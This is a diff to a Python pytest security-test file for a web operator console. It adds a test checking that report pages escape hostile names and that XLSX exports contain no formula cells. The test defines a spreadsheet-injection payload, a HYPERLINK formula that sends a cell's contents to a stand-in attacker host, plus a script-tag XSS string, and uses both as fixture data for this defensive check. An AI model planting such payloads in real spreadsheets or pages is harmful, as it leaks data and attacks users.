@@ -1,20 +1,23 @@
 """Attacks on the operator console over HTTP (issue 11 security review, docs/security.md §7):
-a hostile roster file, login timing. Real SQLite, Starlette's test client."""
+a hostile roster file, login timing, the password form, session eviction, formulas in the
+registers. Real SQLite, Starlette's test client."""
 
 from __future__ import annotations
 
 import io
+import sqlite3
 import time
 import zipfile
+from pathlib import Path
 
 import pytest
-from openpyxl import Workbook
+from openpyxl import Workbook, load_workbook
 from starlette.testclient import TestClient
 
 from gateway.web import sessions as sessions_module
-from gateway.web.console.app import Console
+from gateway.web.console.app import REPORT_NAMES, Console
 from gateway.web.sessions import AddressLimiter
-from tests.web.console_site import CHIEF, CHIEF_PASSWORD, INITIAL, NOPAY, SECOND, VIEWER
+from tests.web.console_site import CHIEF, CHIEF_PASSWORD, INITIAL, NOPAY, SECOND, VIEWER, Desk
 from tests.web.test_console_http import NEW, Clock, _csrf, _login, _ready, console, site
 
 __all__ = ["console", "site"]  # fixtures, imported for their names
@@ -168,3 +171,30 @@ def test_anonymous_requests_cannot_evict_logged_in_sessions(
         stranger.cookies.clear()
         assert stranger.get("/login").status_code == 200
     assert client.get("/", follow_redirects=False).status_code == 200
+
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
+
+
+def test_no_register_download_carries_a_formula_or_raw_name(
+    console: tuple[TestClient, Console, Clock], site: tuple[Path, Desk]
+) -> None:
+    """Holder, merchant and operator-typed texts like ``=HYPERLINK(...)`` or ``<script>`` in
+    every register: text cells in the XLSX, escaped in the page (runs last: it renames)."""
+    client, _, _ = console
+    db, _ = site
+    with sqlite3.connect(db) as conn:
+        conn.execute("UPDATE holders SET name = ?", (EVIL + "<script>x</script>",))
+        conn.execute("UPDATE merchants SET name = ?", (EVIL,))
+    _ready(client, CHIEF, CHIEF_PASSWORD)
+    seen = 0
+    for name, _zh, _en in REPORT_NAMES:
+        page = client.get(f"/reports?name={name}")
+        assert "<script>x" not in page.text, name
+        book = load_workbook(io.BytesIO(client.get(f"/reports/{name}.xlsx").content))
+        for sheet in book.worksheets:
+            for row in sheet.iter_rows():
+                for cell in row:
+                    assert cell.data_type != "f", (name, cell.coordinate, cell.value)
+                    seen += isinstance(cell.value, str) and cell.value.startswith("=HYPER")
+    assert seen  # the names did reach some register
